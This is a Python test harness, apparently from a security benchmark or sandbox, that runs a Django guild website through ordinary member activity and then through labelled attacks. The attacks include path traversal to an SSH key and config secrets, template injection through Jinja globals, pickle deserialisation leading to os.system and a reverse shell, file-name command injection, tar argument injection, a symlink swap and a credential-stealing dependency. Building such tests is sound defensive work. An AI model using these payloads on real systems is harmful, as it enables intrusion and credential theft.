# SPDX-License-Identifier: Apache-2.0
"""A guild's Django site with django-allauth behind gunicorn."""
import base64
import email
import email.policy
import io
import os
import pickle
import re
import urllib.parse

from aiosmtpd.controller import Controller
from PIL import Image
from reportlab.pdfgen import canvas

from attackers import Bomb
import stage

FOUNDERS = ["anna", "ben", "carla"]
MARKS = {"__init__.py": "def mark(text):\n"
                        "    return f'{text[:2].upper()}-{len(text)}'\n"}
MARKS_NEW = {
    "__init__.py": "from hallmarks.stamp import mark\n",
    "stamp.py": "import importlib.resources\n\n\ndef mark(text):\n"
                "    sign = importlib.resources.read_text('hallmarks', "
                "'signs.txt')\n"
                "    return f'{text[:2].upper()}-{len(text)}{sign[0]}'\n",
    "signs.txt": "*+\n"}
# (name, language, craft, town, year, pictures, certificates)
GUESTS = {
    1: [("dora", "de", "potter", "Ulm", 2011, ["jug.png", "bowl-2.jpg"],
         ["journey.pdf", "1998/exam.pdf"]),
        ("emil", "fr", "smith", "Nancy", 2014, ["gate.jpg"], ["oath.pdf"]),
        ("fritz", "en", "cooper", "Bath", 2017, ["cask.gif", "vat.png"],
         ["master.jpg", "2003/exam_b.pdf"])],
    2: [("greta", "nl", "weaver", "Delft", 2012, ["rug.png"],
         ["loom.pdf", "2001/leave.png"]),
        ("hugo_b", "sv", "glazier", "Kalmar", 2019, ["pane.jpg", "rose3.gif"],
         ["glass.pdf", "seal.jpg"]),
        ("ines", "es", "saddler", "Ronda", 2015, ["girth.jpg", "bit.png"],
         ["1987/leather.pdf", "tack.png"])],
    3: [("jonas", "da", "miller", "Ribe", 2013, ["stone.png", "sack.jpg"],
         ["grain.pdf", "1992/rye.pdf"]),
        ("karin", "fi", "binder", "Turku", 2018, ["spine.jpg"],
         ["glue.png"]),
        ("ludo", "pl", "tanner", "Lublin", 2016, ["hide.gif"],
         ["2009/bark.pdf", "oak.jpg"])]}
STRANGERS = [
    ("o.brien", "it", "thatcher", "Bray & Co", 2025,
     ["roof no 4 (front).png", "Größe.jpg"],
     ["Zeugnis Nr. 4 (Kopie).pdf", "2015/austria/exam.pdf", "scan.tiff"]),
    ("zoe-lu+x", "cs", "clock maker", "Ústí", 1931, ["dial.v2.final.gif"],
     ["x", "2024/a-b_c.heic", "2024/wheel.PDF"]),
    ("Müller_99", "de", "potter", "Ulm", 2011, ["p.bmp"], ["p.pdf"])]


class Letters:
    """A mail server that keeps what it gets."""

    def __init__(self, port):
        self.kept = []
        self.controller = Controller(self, hostname="127.0.0.1", port=port)
        self.controller.start()

    async def handle_DATA(self, _server, _session, envelope):
        self.kept.append((envelope.rcpt_tos, email.message_from_bytes(
            envelope.content, policy=email.policy.default).get_content()))
        return "250 OK"

    def link(self, address, part):
        """The path of the last link to somebody that has part in it."""
        found = [path for people, text in self.kept if address in people
                 for path in re.findall(r"http://[^/]+(/\S+)", text)
                 if part in path]
        return urllib.parse.unquote(found[-1]) if found else "/no-mail"


def picture(name, side=90):
    out = io.BytesIO()
    kind = name.rpartition(".")[2].replace("jpg", "jpeg")
    Image.effect_noise((side, side), 40).save(out, kind)
    return out.getvalue()


def certificate(name, pages=1):
    if not name.lower().endswith(".pdf"):
        return stage.png(50)
    out = io.BytesIO()
    page = canvas.Canvas(out, invariant=1)
    for number in range(pages):
        page.drawString(70, 700, f"{name} {number}")
        page.showPage()
    page.save()
    return out.getvalue()


def address_of(name):
    return f"{name.encode('ascii', 'ignore').decode()}@post.example"


def password_of(name):
    return f"at-the-bench-{name[::-1]}-7"


class AllauthGuild(stage.Service):
    """A craftsmen's guild: sign-up, pieces, yearbooks (allauth, gunicorn)."""
    packages = ["python3-django", "python3-django-allauth", "gunicorn",
                "python3-pil", "python3-reportlab", "python3-aiosmtpd",
                "python3-jinja2", "poppler-utils", "zip"]
    letters = None

    def arrange(self):
        stage.write(self.srv / "conf/site.ini", "[site]\nsecret = not-"
                    f"{stage.SECRET}\n[mail]\nport = {self.port('mail')}\n",
                    0o600)
        for name in ("var/log", "var/cache", "media"):
            (self.srv / name).mkdir(parents=True)
        self.install("hallmarks", "1.2.0", MARKS)
        self.seed("var/hall.db", self.python, "seed.py", *FOUNDERS)

    def arrange_benign(self):
        self.install("hallmarks", "1.3.0", MARKS_NEW)

    def command(self):
        return [self.python, "/usr/bin/gunicorn", "--bind",
                f"127.0.0.1:{self.port('web')}", "hall.wsgi:application"]

    def start(self):
        if not self.letters:
            self.letters = Letters(self.port("mail"))
        super().start()

    def stop(self):
        super().stop()
        if self.letters:
            self.letters.controller.stop()
            self.letters = None

    def is_ready(self):
        return self.browser().get("/")[0] == 200

    # ------------------------------------------------------------ ordinary use
    def visitor(self, language="en"):
        browser = self.browser()
        browser.opener.addheaders = [("Accept-Language", language)]
        return browser

    @staticmethod
    def token(browser, path="/me/"):
        found = re.search(rb'csrfmiddlewaretoken" value="(\w+)',
                          browser.get(path)[1])
        return found[1].decode() if found else ""

    def submit(self, browser, path, page=None, **form):
        return browser.post(path, csrfmiddlewaretoken=self.token(
            browser, page or path), **form)

    def enter(self, name, language="en", password=None):
        browser = self.visitor(language)
        self.expect_answer(f"{name} enters", self.submit(
            browser, "/accounts/login/", login=name,
            password=password or password_of(name)), f"<b>{name}</b>")
        return browser

    def join(self, name, language, craft, town, year):
        browser = self.visitor(language)
        address = address_of(name)
        self.expect_answer(f"{name} signs up", self.submit(
            browser, "/accounts/signup/", username=name, email=address,
            password1=password_of(name), password2=password_of(name)),
            "guild hall")
        link = self.letters.link(address, "confirm-email")
        self.expect_answer(f"{name} confirms", self.submit(browser, link),
                           "guild hall")
        browser = self.enter(name, language)
        self.expect_answer(f"{name} introduces", self.submit(
            browser, "/me/", craft=craft, town=town, joined=year),
            f"{town.replace('&', '&amp;')}, {year}")
        return browser

    def shows(self, browser, name, year, file, side=90):
        self.expect_answer(f"{name} shows {file}", browser.upload(
            "/pieces/", file, picture(file, side), field="picture", year=year,
            title=file.partition(".")[0],
            csrfmiddlewaretoken=self.token(browser)), f"<h1>{name}")
        page = browser.get(f"/members/{name}/")[1].decode()
        sources = re.findall(r'src="([^"]+)"', page)
        self.expect_answer(f"picture {file}", browser.fetch(
            sources[-1] if sources else "/no-picture"))

    def hands_in(self, browser, file, pages=1):
        self.expect_answer(f"hands in {file}", browser.upload(
            "/certificates/", "scan", certificate(file, pages),
            paper=file, csrfmiddlewaretoken=self.token(browser)),
            f'"pages": {pages}' if file.endswith("pdf") else '"mark"')
        self.expect_answer(f"gets {file}", browser.get(
            "/certificates/", name=file), certificate(file, pages))

    def portfolio(self, browser, files):
        names = urllib.parse.urlencode([("name", file) for file in files])
        self.expect_answer(f"portfolio of {len(files)}",
                           browser.fetch(f"/portfolio/?{names}"), b"PK")

    def yearbook(self, browser, year):
        for kind, start in (("csv", "member,title"), ("pdf", "%PDF")):
            self.expect_answer(f"yearbook {year}.{kind}", browser.get(
                f"/yearbook/{year}.{kind}"), start)

    def office(self, browser, name, formula):
        self.expect_answer(f"dues {formula}", browser.get(
            "/dues/", formula=formula))
        self.expect_answer(f"circular of {name}", self.submit(
            browser, "/circular/", "/me/", text=f"From {name}: "
            "{{ user.username|upper }}"), name.upper())
        self.expect_answer("workshop", browser.get(
            "/workshop/", url=f"{self.site('towns').url}/"
            f"{urllib.parse.quote(name)}/open"), "Open")
        state = base64.b64encode(pickle.dumps({"columns": name})).decode()
        self.expect_answer("layout", self.submit(
            browser, "/layout/", "/me/", state=state), "columns")

    def whole_visit(self, name, language, craft, town, year, pieces, papers):
        browser = self.join(name, language, craft, town, year)
        for number, file in enumerate(pieces):
            self.shows(browser, name, year, file, 90 + 500 * number)
        for number, file in enumerate(papers):
            self.hands_in(browser, file, 1 + number)
        self.portfolio(browser, papers)
        self.yearbook(browser, year)
        self.office(browser, name, f"years*{year % 10} + 30")
        self.expect_answer(f"{name} leaves", self.submit(
            browser, "/accounts/logout/", "/me/"), "stranger")

    def recovers(self, name, address, language="en"):
        """A forgotten password, then the old one again."""
        browser = self.visitor(language)
        self.submit(browser, "/accounts/password/reset/", email=address)
        link = self.letters.link(address, "/reset/key/")
        browser.get(link)
        new = f"new-{password_of(name)}"
        page = re.sub(r"-[^-]+-[^-]+/?$", "-set-password/", link)
        self.submit(browser, page, password1=new, password2=new)
        browser = self.enter(name, language, new)
        self.expect_answer(f"{name} changes it", self.submit(
            browser, "/accounts/password/change/", oldpassword=new,
            password1=password_of(name), password2=password_of(name)), name)
        self.submit(browser, "/accounts/email/", action_add="1",
                    email=f"second-{address}")
        self.expect_answer(f"{name} has a second address", self.submit(
            browser, self.letters.link(f"second-{address}", "confirm-email")))

    def warden(self, name, town):
        """Somebody moves; one of his pieces goes."""
        browser = self.enter("anna")
        self.expect_answer("admin", browser.get("/admin/"), "Members")
        page = self.expect_answer(f"look for {name}", browser.get(
            "/admin/hall/member/", q=name), "/change/") or b""
        number = re.search(rb"member/(\d+)/change", page + b"member/1/change")
        path = f"/admin/hall/member/{int(number[1])}/change/"
        form = browser.get(path)[1].decode()
        user = re.search(r'<option value="(\d+)" selected', form)
        self.expect_answer(f"{name} moves", self.submit(
            browser, path, user=user[1] if user else "", craft="elder",
            town=town, joined="1990"), "“")
        page = self.expect_answer("pieces", browser.get("/admin/hall/piece/"),
                                  "/change/") or b""
        number = re.search(rb"piece/(\d+)/change", page + b"piece/1/change")
        path = f"/admin/hall/piece/{int(number[1])}/delete/"
        self.expect_answer("piece goes", self.submit(
            browser, path, post="yes"), "“")
        self.expect_answer("people", browser.get("/admin/auth/user/"), "anna")

    def nightly(self, date, *more):
        """While nobody is served."""
        words = [self.python, "manage.py", "nightly", "--date", date, *more]
        self.expect_run(words[1:], self.run(*words), 0, f"done for {date}",
                        [f"var/reports/{date[:4]}/{date[5:7]}/{date}.txt"])

    def founder(self, name="anna"):
        browser = self.enter(name)
        self.hands_in(browser, "master.pdf")
        self.yearbook(browser, 2010)
        return browser

    def train(self, day):
        self.site("towns").page("*", "Open from nine")
        visitor = self.visitor()
        self.expect_answer("home", visitor.get("/"), "stranger")
        self.expect_answer("stranger", visitor.get("/me/"), "password")
        self.expect_answer("wrong password", self.submit(
            visitor, "/accounts/login/", login="carla", password="x"),
            "stranger")
        for guest in GUESTS[day]:
            self.whole_visit(*guest)
        for name in FOUNDERS:
            self.office(self.founder(name), name, f"years+{day}")
        name, language, *_, papers = GUESTS[day][day % 3]
        self.recovers(name, address_of(name), language)
        self.recovers("ben", "ben@guild.example")
        for name, *_ in GUESTS[day][:2]:
            self.warden(name, f"Town {day}")
        browser = self.enter(GUESTS[day][0][0])
        for file in ("none.pdf", f"lost-{day}.pdf"):
            self.expect_answer(f"no {file}", browser.get(
                "/certificates/", name=file), status=500)
        self.expect_answer("no picture", browser.upload(
            "/pieces/", "text.png", b"no picture", field="picture", year=2001,
            title="x", csrfmiddlewaretoken=self.token(browser)), status=400)
        self.expect_answer("no page", visitor.get("/none"), status=404)
        self.expect_answer("no member", browser.get("/members/nobody/"),
                           status=404)
        self.halt()
        month = f"2026-0{2 * day}"
        self.nightly(f"{month}-1{day}")
        self.nightly(f"{month}-2{day}", "--remind")
        self.nightly(f"{month}-2{day + 4}", "--keep", str(day))
        self.start()
        self.founder()

    def benign(self):
        self.site("towns").page("*", "Open from nine")
        for guest in STRANGERS:
            self.whole_visit(*guest)
        browser = self.founder("ben")
        self.office(browser, "ben", "max(years, 4) * 2.5")
        self.hands_in(browser, "Prüfung 2026-11-23.pdf", 60)
        self.shows(browser, "ben", 2031, "big picture.png", 1200)
        self.recovers("o.brien", address_of("o.brien"), "it")
        self.recovers("carla", "carla@guild.example", "nb")
        self.warden("zoe-lu", "Ústí nad Labem")
        self.expect_answer("no dues", browser.get("/dues/", formula="years+"),
                           status=500)
        self.expect_answer("no such file", browser.get(
            "/certificates/", name="2030/none at all.pdf"), status=500)
        self.expect_answer("no yearbook", browser.get("/yearbook/2010.xls"),
                           status=404)
        self.expect_answer("empty yearbook", browser.get("/yearbook/1850.csv"),
                           "member")
        self.expect_answer("no token", browser.post("/circular/", text="x"),
                           status=403)
        self.expect_answer("favicon", browser.get("/favicon.ico"), status=404)
        self.halt()
        self.nightly("2027-11-30", "--remind", "--keep", "12")
        self.nightly("2028-02-29", "--no-backup")
        self.start()
        self.founder("carla")

    def health(self):
        self.founder()

    # ----------------------------------------------------------------- attacks
    def gets(self, path, **query):
        return self.enter("anna").get(path, **query)[1]

    def reads(self, name):
        return self.gets("/certificates/", name=name)

    def plants(self, name, text):
        browser = self.enter("anna")
        return browser.upload("/certificates/", "scan", text, paper=name,
                              csrfmiddlewaretoken=self.token(browser))[1]

    def renders(self, code):
        """code: an expression."""
        return self.submit(self.enter("anna"), "/circular/", "/me/", text=(
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}"))[1]

    def lays_out(self, *call):
        self.submit(self.enter("anna"), "/layout/", "/me/", state=(
            base64.b64encode(pickle.dumps(Bomb(*call))).decode()))

    @stage.attack("traversal")
    def certificate_is_a_private_key(self):
        return self.is_told(self.reads("../../../../home/.ssh/id_rsa"))

    @stage.attack("secret disclosure")
    def certificate_is_the_configuration(self):
        return self.is_told(self.reads(f"{self.srv}/conf/site.ini"))

    @stage.attack("source disclosure")
    def certificate_is_the_source(self):
        return b"ACCOUNT_EMAIL" in self.reads("../../../hall/settings.py")

    @stage.attack("secret disclosure")
    def certificate_is_the_database(self):
        return b"SQLite" in self.reads("../../../var/hall.db")

    @stage.attack("write to code", fresh=True)
    def certificate_replaces_a_template(self):
        self.plants("../../../hall/templates/base.html", b"planted")
        return "planted" in (
            self.srv / "hall/templates/base.html").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def certificate_becomes_a_pth_file(self):
        self.plants(f"{self.site_packages}/x.pth", b"import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("write to code", fresh=True)
    def certificate_becomes_a_nightly_command(self):
        def use(line):
            self.plants("../../../hall/management/commands/nightly.py",
                        f"import os\nos.system({line!r})\n".encode())
            self.run(self.python, "manage.py", "nightly", "--date",
                     "2026-02-11")
        return self.runs_line(use)

    @stage.attack("template injection")
    def circular_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("exfiltration")
    def circular_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("SSRF")
    def workshop_is_an_internal_service(self):
        return self.fetches_inside(
            lambda url: self.gets("/workshop/", url=url))

    @stage.attack("command injection")
    def certificate_runs_a_command(self):
        return self.runs_line(lambda line: self.plants(
            f"$({line.replace('/', '${HOME%%[!/]*}')}).pdf", b"x"))

    @stage.attack("argument injection")
    def portfolio_runs_a_test(self):
        self.plants("master.pdf", certificate("master.pdf"))
        return self.runs_line(lambda line: self.portfolio_of(
            "master.pdf", "-T", "-TT", f"{line} #"))

    def portfolio_of(self, *names):
        self.enter("anna").fetch("/portfolio/?" + urllib.parse.urlencode(
            [("name", name) for name in names]))

    @stage.attack("reverse shell")
    def layout_calls_home(self):
        return self.calls_home(lambda code: self.lays_out(exec, code))

    @stage.attack("unsafe pickle")
    def layout_runs_a_command(self):
        return self.runs_line(lambda line: self.lays_out(os.system, line))

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(lambda code: self.gets(
            "/dues/", formula=f"exec({code!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(lambda code: self.gets("/dues/", formula=code))

    @stage.attack("symlink swap", fresh=True)
    def certificate_became_a_link(self):
        self.plants("oath.pdf", certificate("oath.pdf"))
        path = self.srv / "media/certificates/anna/oath.pdf"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.reads("oath.pdf"))

    @stage.attack("malicious dependency", fresh=True)
    def hallmarks_sends_credentials(self):
        return self.dependency_steals("hallmarks", "1.2.1", MARKS,
                                      self.restart)
